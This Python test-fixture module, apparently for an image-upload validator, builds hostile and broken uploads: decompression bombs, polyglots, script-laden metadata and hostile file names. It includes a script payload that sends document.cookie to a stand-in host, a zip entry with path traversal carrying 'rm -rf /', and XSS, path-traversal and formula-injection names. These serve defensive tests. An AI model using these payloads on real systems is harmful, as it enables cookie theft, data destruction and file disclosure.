"""Uploads that mean harm, are broken, or carry more than pixels."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import numpy as np
from PIL import Image

from tests.support.images import plain_png, png_chunk

MAGIC = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>fetch('https://evil.invalid/'+document.cookie)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
GPS_IFD, MAKE, DESCRIPTION, ORIENTATION, COPYRIGHT = 0x8825, 0x010F, 0x010E, 0x0112, 0x8298


def saved(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: Any) -> bytes:
    """A gradient from dark on top to light at the bottom, a little transparent where the mode can be."""
    grey = Image.linear_gradient("L").resize(size)
    if mode == "I;16":
        picture = Image.fromarray(np.asarray(grey).astype(np.uint16) * 257)
    else:
        picture = grey.convert(mode)
    if mode.endswith("A"):
        picture.putalpha(200)
    file = io.BytesIO()
    picture.save(file, kind, **options)
    return file.getvalue()


def animation(kind: str) -> bytes:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue", "green")]
    file = io.BytesIO()
    frames[0].save(file, kind, save_all=True, append_images=frames[1:], duration=50)
    return file.getvalue()


def telling(orientation: int = 1) -> Image.Exif:
    """What a camera writes: where it was, whose it is, and words that a careless page would run."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[MAKE] = exif[DESCRIPTION] = exif[COPYRIGHT] = SCRIPT.decode()
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (48.0, 8.0, 14.0), 3: "E", 4: (11.0, 34.0, 31.0)})
    return exif


def with_chunks(*chunks: bytes) -> bytes:
    """A PNG with `chunks` behind its header."""
    data = saved("PNG")
    return data[:33] + b"".join(chunks) + data[33:]


def bomb(width: int, height: int) -> bytes:
    """A PNG of these pixels in a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(64) * 1000, 9)
    return MAGIC + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def huge_webp() -> bytes:
    """The header of a WebP of 16383 x 16383 pixels."""
    body = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xfe\x3f\0" * 2
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def huge_jpeg() -> bytes:
    """A JPEG whose header says 60000 x 60000 pixels."""
    data, at = bytearray(saved("JPEG")), 0
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("../../evil.sh", "rm -rf /")
    return file.getvalue()


def cut(kind: str) -> bytes:
    data = saved(kind, (200, 150))
    return data[: len(data) // 2]


# What is refused, and a word of why.
REFUSED: dict[str, bytes] = {
    "nothing": b"",
    "zeros": bytes(5_000),
    "svg": SVG,
    "html": b"<!doctype html>" + SCRIPT,
    "html behind a GIF's first bytes": b"GIF89a/*" + SCRIPT,
    "html behind a PNG's first bytes": MAGIC + SCRIPT,
    "gif": saved("GIF"),
    "tiff": saved("TIFF"),
    "bmp": saved("BMP"),
    "ico": saved("ICO"),
    "a PostScript program": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(evil) run\n",
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "zip": archive(),
    "animated gif": animation("GIF"),
    "animated png": animation("PNG"),
    "animated webp": animation("WEBP"),
    "half a png": cut("PNG"),
    "half a jpeg": cut("JPEG"),
    "half a webp": cut("WEBP"),
    "a png's header alone": saved("PNG")[:33],
    "a jpeg's first bytes": saved("JPEG")[:20],
    "a png with a wrong checksum": saved("PNG").replace(b"IDAT", b"IDAU", 1),
    "texts that unpack to a gigabyte": with_chunks(
        *[png_chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(2**20), 9))] * 80
    ),
}
# Refused for its size, before any of it is unpacked.
TOO_LARGE: dict[str, bytes] = {
    "30000 x 30000 pixels": bomb(30_000, 30_000),
    "a very long picture": bomb(2**31 - 1, 1),
    "a webp of 16383 x 16383": huge_webp(),
    "a jpeg of 60000 x 60000": huge_jpeg(),
    "too many bytes": plain_png() + bytes(2**20),
}


def camera(kind: str, orientation: int = 1, **options: Any) -> bytes:
    return saved(kind, exif=telling(orientation).tobytes(), **options)


# Taken, and rid of everything but the pixels.
CLEANED: dict[str, bytes] = {
    "jpeg with a place and scripts": camera("JPEG", comment=SCRIPT),
    "webp with a place and scripts": camera("WEBP", xmp=SCRIPT),
    "png with a place and scripts": camera("PNG"),
    "png with texts": with_chunks(
        png_chunk(b"tEXt", b"Comment\0" + SCRIPT),
        png_chunk(b"zTXt", b"Note\0\0" + zlib.compress(SCRIPT)),
        png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SCRIPT),
        png_chunk(b"prVt", SCRIPT),
    ),
    "png with a page behind it": saved("PNG") + SCRIPT,
    "jpeg with a page behind it": saved("JPEG") + SCRIPT,
    "png with an archive behind it": saved("PNG") + archive() + SCRIPT,
    "jpeg with a profile": saved("JPEG", icc_profile=SCRIPT * 9),
    "png with a profile": saved("PNG", icc_profile=SCRIPT * 9),
}
# Unusual, and pictures all the same.
UNUSUAL: dict[str, bytes] = {
    "jpeg for print": saved("JPEG", mode="CMYK"),
    "grey jpeg": saved("JPEG", mode="L"),
    "progressive jpeg": saved("JPEG", progressive=True),
    "grey png": saved("PNG", mode="L"),
    "black and white png": saved("PNG", mode="1"),
    "png of 16 bits": saved("PNG", mode="I;16"),
    "png with a palette": saved("PNG", mode="P"),
    "grey png with transparency": saved("PNG", mode="LA"),
    "transparent png": saved("PNG", mode="RGBA"),
    "transparent webp": saved("WEBP", mode="RGBA", lossless=True),
    "webp": saved("WEBP"),
}
NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "a\0b.png",
    "con.png",
    "x" * 300 + ".png",
    '"><img src=x onerror=alert(1)>.png',
    "=HYPERLINK(1).png",
)
